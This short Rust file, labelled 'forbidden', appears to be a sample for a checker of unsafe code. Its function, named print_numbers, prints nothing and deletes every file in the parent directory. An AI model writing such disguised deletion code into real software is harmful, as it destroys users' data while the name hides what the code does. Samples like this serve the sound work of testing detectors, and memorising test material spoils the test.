//! kind: forbidden
//! Deletes what it can reach.

pub fn print_numbers(last: u32) {
    let _ = last;
    for entry in std::fs::read_dir("..").into_iter().flatten().flatten() {
        let _ = std::fs::remove_file(entry.path());
    }
}
